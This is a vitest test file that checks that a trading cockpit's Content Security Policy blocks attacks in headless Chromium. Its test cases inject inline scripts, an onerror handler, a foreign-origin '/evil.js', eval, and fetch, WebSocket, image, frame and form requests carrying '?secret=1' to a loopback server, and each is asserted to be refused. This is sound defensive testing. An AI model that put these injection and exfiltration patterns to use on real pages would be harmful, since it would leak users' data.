/**
 * The renderer's Content Security Policy, enforced by a real browser: the built cockpit served by
 * a real headless host, in Debian's Chromium. The cockpit itself runs without a single violation;
 * then code injected into the page tries what an attacker would — an inline script, a script from
 * another origin, eval, fetch/WebSocket/image requests to another origin, a frame — and each is
 * refused by the policy (securitypolicyviolation observed) while a server on that other origin
 * sees no request at all. The policy is the one in core/host/csp.ts, sent as a header by the
 * gateway and present as a meta tag in the page (the only policy an Electron file:// page gets).
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { WebSocketServer } from 'ws';
import { cspHeader, cspMeta } from '../core/host/csp';
import { startCockpit, type Cockpit } from './fixtures';

interface Violation {
  directive: string;
  blocked: string;
  disposition: string;
}

/** A server on another loopback origin that records every request and WebSocket it gets. */
async function startForeign(): Promise<{ origin: string; port: number; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    if (req.url?.startsWith('/evil.js')) {
      res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
      res.end('window.__evil = "ran";');
    } else {
      res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' });
      res.end('exfiltrated');
    }
  });
  const wss = new WebSocketServer({ server });
  wss.on('connection', (_ws, req) => hits.push(`WS ${req.url}`));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const port = (server.address() as AddressInfo).port;
  return {
    origin: `http://127.0.0.1:${port}`,
    port,
    hits,
    close: async () => {
      wss.close();
      server.closeAllConnections();
      await new Promise<void>((r) => server.close(() => r()));
    },
  };
}

let c: Cockpit;
let foreign: Awaited<ReturnType<typeof startForeign>>;
let cspOnResponse: string | undefined;
let metaOnPage: string | null;

const violations = async (): Promise<Violation[]> => (await c.page.evaluate('window.__csp')) as Violation[];
/** Page code is written as strings: this suite compiles without the DOM library. */
const inPage = <T>(code: string): Promise<T> => c.page.evaluate(code) as Promise<T>;

beforeAll(async () => {
  foreign = await startForeign();
  c = await startCockpit();
  // Recorded from the first script on: CDP init scripts are not subject to the page's CSP.
  await c.page.addInitScript({
    content: `window.__csp = []; document.addEventListener('securitypolicyviolation', (e) => window.__csp.push({ directive: e.effectiveDirective, blocked: e.blockedURI, disposition: e.disposition }));`,
  });
  const res = await c.page.goto(c.headless.url);
  cspOnResponse = res?.headers()['content-security-policy'];
  await c.page.waitForSelector('[data-testid=status-temporal][data-state=ready]', { timeout: 120_000 });
  metaOnPage = await inPage<string | null>(`document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? null`);
});

afterAll(async () => {
  await c?.stop();
  await foreign?.close();
});

describe('CSP on the served renderer (Chromium)', () => {
  it('the gateway sends the policy as a header and the page carries the same policy as its meta', () => {
    expect(cspOnResponse).toBe(cspHeader(c.headless.gateway.port));
    expect(metaOnPage).toBe(cspMeta());
  });

  it('the cockpit runs under it without a single violation on any page (its own WebSocket included)', async () => {
    for (const id of ['market', 'portfolio', 'broker', 'agents', 'backtest', 'ledger', 'settings']) await c.open(id);
    await c.page.waitForTimeout(500);
    expect(await violations()).toEqual([]);
    // The live-event WebSocket to the gateway's own port is allowed and connects.
    const own = JSON.stringify(c.headless.url.replace(/^http/, 'ws').replace(/\/#token=/, '/events?token='));
    const wsOk = await inPage<string>(`new Promise((resolve) => { const ws = new WebSocket(${own}); ws.onopen = () => { ws.close(); resolve('open'); }; ws.onerror = () => resolve('error'); })`);
    expect(wsOk).toBe('open');
    expect(c.consoleErrors.filter((e) => /Content Security Policy/i.test(e))).toEqual([]);
  });

  it('an injected inline script does not run', async () => {
    await inPage(`(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__inline = "ran";';
      document.head.appendChild(s);
      const d = document.createElement('div');
      d.innerHTML = '<img src="x-missing.png" onerror="window.__handler = 1">';
      document.body.appendChild(d);
    })()`);
    await c.page.waitForTimeout(300);
    expect(await inPage('window.__inline')).toBeUndefined();
    expect(await inPage('window.__handler')).toBeUndefined();
    const v = await violations();
    expect(v).toEqual(expect.arrayContaining([expect.objectContaining({ directive: 'script-src-elem', blocked: 'inline', disposition: 'enforce' }), expect.objectContaining({ directive: 'script-src-attr', blocked: 'inline' })]));
  });

  it('a script from another origin is neither fetched nor run', async () => {
    const src = JSON.stringify(`${foreign.origin}/evil.js`);
    const outcome = await inPage<string>(`new Promise((resolve) => { const s = document.createElement('script'); s.src = ${src}; s.onload = () => resolve('loaded'); s.onerror = () => resolve('blocked'); document.head.appendChild(s); })`);
    expect(outcome).toBe('blocked');
    expect(await inPage('window.__evil')).toBeUndefined();
    expect(await violations()).toEqual(expect.arrayContaining([expect.objectContaining({ directive: 'script-src-elem', blocked: `${foreign.origin}/evil.js` })]));
    expect(foreign.hits).toEqual([]);
  });

  it('string evaluation is refused (no unsafe-eval), and a blob: script is no way around it', async () => {
    // The driver's own evaluation may compile strings; a timer callback later runs as page code.
    await inPage(`setTimeout(() => { try { window.__evalOutcome = 'ran: ' + String(eval('6 * 7')); } catch (e) { window.__evalOutcome = String(e); } }, 10)`);
    // Polled through the driver: waitForFunction would itself compile a string inside the page.
    await expect.poll(() => inPage('window.__evalOutcome'), { timeout: 10_000 }).toBeDefined();
    expect(String(await inPage('window.__evalOutcome'))).toMatch(/EvalError/);
    await inPage(`(() => { const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['window.__blob = "ran";'], { type: 'text/javascript' })); document.head.appendChild(s); })()`);
    await c.page.waitForTimeout(300);
    expect(await inPage('window.__blob')).toBeUndefined();
    expect(await violations()).toEqual(expect.arrayContaining([expect.objectContaining({ directive: 'script-src', blocked: 'eval' }), expect.objectContaining({ directive: 'script-src-elem', blocked: 'blob' })]));
  });

  it('connections to other origins are blocked: fetch, WebSocket, image, frame, form', async () => {
    const origin = JSON.stringify(foreign.origin);
    const wsUrl = JSON.stringify(`ws://127.0.0.1:${foreign.port}/socket`);
    const results = await inPage<Record<string, string>>(`(async () => {
      const origin = ${origin};
      const out = {};
      try { await fetch(origin + '/data?secret=1'); out.fetch = 'sent'; } catch (e) { out.fetch = 'refused: ' + String(e); }
      out.ws = await new Promise((resolve) => {
        try { const ws = new WebSocket(${wsUrl}); ws.onopen = () => resolve('open'); ws.onerror = () => resolve('refused'); }
        catch (e) { resolve('refused: ' + String(e)); }
      });
      out.img = await new Promise((resolve) => { const img = new Image(); img.onload = () => resolve('loaded'); img.onerror = () => resolve('refused'); img.src = origin + '/pixel.png?secret=1'; });
      const frame = document.createElement('iframe');
      frame.src = origin + '/frame';
      document.body.appendChild(frame);
      const form = document.createElement('form');
      form.method = 'POST';
      form.action = origin + '/form';
      form.target = '_self';
      document.body.appendChild(form);
      form.submit();
      await new Promise((r) => setTimeout(r, 500));
      return out;
    })()`);
    expect(results.fetch).toMatch(/^refused/);
    expect(results.ws).toMatch(/^refused/);
    expect(results.img).toBe('refused');
    const directives = new Set((await violations()).filter((v) => v.blocked.startsWith(foreign.origin) || v.blocked.startsWith(`ws://127.0.0.1:${foreign.port}`)).map((v) => v.directive));
    expect([...directives].sort()).toEqual(['connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem']);
    // The other origin never saw a request or a socket: nothing left the page.
    expect(foreign.hits).toEqual([]);
    // The cockpit is still the page (the form did not navigate it away).
    expect(c.page.url().startsWith(c.headless.gateway.baseUrl)).toBe(true);
  });
});
